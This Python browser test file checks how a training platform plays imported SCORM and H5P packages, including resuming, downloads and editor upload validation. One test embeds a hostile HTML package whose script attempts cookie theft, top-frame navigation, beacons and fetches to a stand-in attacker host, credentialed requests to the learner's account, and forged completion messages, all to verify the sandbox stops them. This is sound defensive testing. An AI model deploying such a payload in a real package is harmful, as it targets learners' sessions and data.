"""Imported packages in a real browser: our own course as SCORM 1.2 and 2004 imported again and gone through
to its end, stopped and resumed; an H5P file; a package that tries to get out of its frame."""

import json
import os
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from django.test import override_settings
from factories.courses import both, cohort, drafted, enrolled
from factories.packaged_courses import LESSON, published_with
from factories.packages import h5p, package

from flows.browser import axe, overflow
from flows.hotline import sign_in
from flows.nodetools import node_tool
from sauga.kernel.members.signin import cookies
from sauga.training.courses.demo import lesson
from sauga.training.courses.packages import package_of
from sauga.training.courses.queries.versions import content_of
from sauga.training.learning.models import Enrolment, PackageRun
from sauga.training.states import EnrolmentState
from tests.centre import Centre

pytestmark = [pytest.mark.flow, pytest.mark.browser, pytest.mark.django_db(transaction=True)]
WAIT = 30_000
PICTURES = os.environ.get("TEST_PICTURES", "")


def learner(centre: Centre, open_page: Any, content: bytes, name: str = "it.zip", **more: Any) -> Any:
    """A learner's page of an activity with this package."""
    _by, row, secret = enrolled(cohort(centre, published_with(centre, content, name, **more)))
    page = open_page(width=320, language="en")
    page.context.add_cookies([{"name": cookies.session_name(), "value": secret, "url": page.site}])
    page.goto(f"/en/my/courses/{row.ref}/part/{LESSON}/")
    return page


def sound(page: Any, name: str) -> None:
    """No fault that axe finds, nothing wider than the window."""
    assert (name, axe(page), overflow(page)) == (name, [], 0)
    if PICTURES:
        page.screenshot(path=f"{PICTURES}/package-{name}.png", full_page=True)


def said(page: Any, text: str) -> None:
    """Until the page says what became of a report."""
    page.locator("[data-package-said]", has_text=text).wait_for(timeout=WAIT)


@pytest.mark.parametrize("kind", ["scorm12", "scorm2004"])
def test_our_own_course_is_imported_again_and_gone_through(centre: Centre, open_page: Any, kind: str):
    made = package_of(content_of(drafted(centre, "source")), kind, "en")
    page = learner(centre, open_page, made)
    inside = page.frame_locator("iframe[name=package]")
    inside.locator("[data-check]").wait_for(timeout=WAIT)
    said(page, "Saved.")
    sound(page, kind)
    for box in inside.locator("[data-question] input[data-right]").all():
        box.check()
    inside.locator("[data-check]").click()
    said(page, "100% reached")
    row = Enrolment.objects.get()
    assert row.state == EnrolmentState.CERTIFIED and row.progress.get().score == 100
    page.locator("[data-package-next] a").click()
    page.wait_for_url(f"**/{row.ref}/", timeout=WAIT)


def test_a_lesson_is_stopped_and_resumed_where_it_was(centre: Centre, open_page: Any):
    page = learner(centre, open_page, lesson(), least=60)
    inside = page.frame_locator("iframe[name=package]")
    inside.get_by_role("heading", name="Stronger sign-in").wait_for(timeout=WAIT)
    inside.get_by_role("link", name="Go on to the questions").click()
    inside.locator("[name=q0][value='1']").check(timeout=WAIT)
    said(page, "Saved.")
    page.locator("main a[href^='/en/my/courses/']").first.click()
    page.wait_for_url(lambda url: "/part/" not in url, timeout=WAIT)
    run = PackageRun.objects.get()
    assert not run.is_done and b"questions" not in bytes(run.kept)
    page.goto(f"/en/my/courses/{Enrolment.objects.get().ref}/part/{LESSON}/")
    assert inside.locator("[name=q0][value='1']").is_checked(timeout=WAIT)
    for name, value in (("q1", "2"), ("q2", "0")):
        inside.locator(f"[name={name}][value='{value}']").check()
    inside.get_by_role("button", name="Check").click()
    said(page, "33% reached")
    sound(page, "lesson")
    assert not PackageRun.objects.get().is_done
    inside.locator("[name=q1][value='0']").check()
    inside.locator("[name=q2][value='1']").check()
    inside.get_by_role("button", name="Try again").click()
    said(page, "100% reached")
    assert Enrolment.objects.get().state == EnrolmentState.CERTIFIED and PackageRun.objects.get().score == 100


HOSTILE = """<!doctype html><html><head><title>Hostile</title></head><body><p id="said">…</p>
<button id="away" onclick="location.href = 'EVIL/away'">Away</button>
<form action="EVIL/form" method="post"><button id="form">Send</button></form><script>
const out = {};
const attempt = (name, act) => { try { out[name] = String(act()); } catch { out[name] = "stopped"; } };
attempt("cookie", () => document.cookie || "stopped");
attempt("top", () => window.top.document.title);
attempt("storage", () => { localStorage.setItem("a", "1"); return "only here"; });
attempt("leave", () => { window.top.location = "EVIL/top"; return "stopped"; });
attempt("popup", () => (window.open("EVIL/popup") ? "reached" : "stopped"));
const ask = async (name, act) => {
  try { await act(); out[name] = "reached"; } catch { out[name] = "stopped"; }
};
const element = (tag, more) => new Promise((yes, no) => {
  const one = Object.assign(document.createElement(tag), { onload: yes, onerror: no, ...more });
  document.body.append(one);
});
const quiet = { credentials: "include", mode: "no-cors" };
(async () => {
  await ask("fetch", () => fetch("EVIL/fetch", { mode: "no-cors" }));
  await ask("ours", () => fetch("/en/my/courses/", { credentials: "include" }));
  await ask("post", () => fetch("/en/my/account/", { method: "POST", ...quiet }));
  await ask("script", () => element("script", { src: "EVIL/x.js" }));
  await ask("picture", () => element("img", { src: "EVIL/x.png" }));
  await ask("own", () => fetch("data.json").then((answer) => answer.json()));
  element("iframe", { src: "EVIL/inner" });
  navigator.sendBeacon("EVIL/beacon", "x");
  const report = { run: "session1", status: "passed", raw: "100" };
  window.top.postMessage({ sauga: "package", part: "other", report }, "*");
  window.top.postMessage("nonsense", "*");
  document.getElementById("said").textContent = JSON.stringify(out);
})();
</script></body></html>"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another site, and what it was asked for."""
    asked: list[str] = []

    class Other(BaseHTTPRequestHandler):
        def log_message(self, *_said: Any) -> None:
            """Say nothing."""

        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET

    server = ThreadingHTTPServer(("127.0.0.1", 0), Other)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def test_a_package_does_not_get_out_of_its_frame(
    centre: Centre, open_page: Any, elsewhere: tuple[str, list[str]]
):
    evil, asked = elsewhere
    files = {"index.html": HOSTILE.replace("EVIL", evil), "data.json": "{}"}
    page = learner(centre, open_page, package(files=files))
    inside = page.frame_locator("iframe[name=package]")
    told = inside.locator("#said", has_text="{")
    told.wait_for(timeout=WAIT)
    out = json.loads(told.inner_text())
    assert {name for name, what in out.items() if what != "stopped"} == {"storage", "own"}
    assert page.evaluate("() => document.querySelector('iframe').contentDocument === null")
    for button in ("#away", "#form"):
        told.wait_for(timeout=WAIT)
        inside.locator(button).click()
        inside.locator(button).wait_for(state="detached", timeout=WAIT)
        page.reload()
    assert asked == []
    assert page.url.endswith(f"/part/{LESSON}/") and len(page.context.pages) == 1
    assert page.evaluate("() => localStorage.length") == 0
    assert not PackageRun.objects.exists() and Enrolment.objects.get().state == EnrolmentState.ACTIVE
    page.faults.clear()


@pytest.mark.tools
def test_an_h5p_file_is_played_and_its_result_counts(centre: Centre, open_page: Any):
    player = node_tool("h5p-standalone", "dist/main.bundle.js").parent
    with override_settings(H5P_PLAYER=player):
        page = learner(centre, open_page, h5p(), "it.h5p")
        inside = page.frame_locator("iframe[name=package]")
        inside.locator("h1", has_text="What helps?").wait_for(timeout=WAIT)
        inside.get_by_role("button", name="Stay silent").click()
        said(page, "0% reached")
        assert Enrolment.objects.get().state == EnrolmentState.ACTIVE
        page.reload()
        inside.locator(".was", has_text="Stay silent").wait_for(timeout=WAIT)
        inside.get_by_role("button", name="Tell somebody").click()
        said(page, "100% reached")
    assert Enrolment.objects.get().state == EnrolmentState.CERTIFIED
    page.faults.clear()


def test_without_a_script_the_page_says_what_is_missing(centre: Centre, open_page: Any):
    _by, row, secret = enrolled(cohort(centre, published_with(centre, lesson(), is_download=True)))
    page = open_page(js=False, language="en")
    page.context.add_cookies([{"name": cookies.session_name(), "value": secret, "url": page.site}])
    page.goto(f"/en/my/courses/{row.ref}/part/{LESSON}/")
    assert "needs JavaScript" in page.inner_text("main")
    with page.expect_download() as got:
        page.get_by_role("link", name="Download the package").click()
    assert got.value.path().read_bytes() == lesson()


def test_an_editor_imports_a_package_and_tries_it(centre: Centre, open_page: Any, tmp_path: Any):
    version = drafted(centre)
    desk = open_page(language="lt")
    sign_in(desk, centre, "COURSE_EDITOR")
    bad, good = tmp_path / "bad.zip", tmp_path / "good.zip"
    bad.write_bytes(package(hrefs=["gone.html", "https://evil.example/"], files={"x.exe": b"MZ"}))
    good.write_bytes(lesson())
    desk.goto(f"/desk/training/courses/{version.ref}/module/{version.modules.get().ref}/add/package/")
    for name, text in both("Lesson").items():
        desk.fill(f"[name=title_{name}]", text)
    desk.fill("[name=minutes]", "25")
    desk.set_input_files("[name=upload]", str(bad))
    with desk.expect_navigation():
        desk.locator("form[data-main] button[data-key=s]").click()
    assert all(part in desk.inner_text("form[data-main]") for part in ("gone.html", "evil.example", "x.exe"))
    sound(desk, "refused")
    assert not version.activities.filter(kind="package").exists()
    desk.set_input_files("[name=upload]", str(good))
    with desk.expect_navigation():
        desk.locator("form[data-main] button[data-key=s]").click()
    part = version.activities.get(kind="package")
    desk.goto(f"/desk/training/courses/{version.ref}/activity/{part.ref}/")
    assert "SCORM 1.2" in desk.inner_text("main")
    sound(desk, "facts")
    with desk.expect_navigation():
        desk.locator("a[data-key=v]").click()
    inside = desk.frame_locator("iframe[name=package]")
    inside.get_by_role("link", name="Pereiti prie klausimų").wait_for(timeout=WAIT)
    desk.locator("[data-package-said]", has_text="incomplete").wait_for(timeout=WAIT)
    sound(desk, "preview")
    assert not PackageRun.objects.exists()
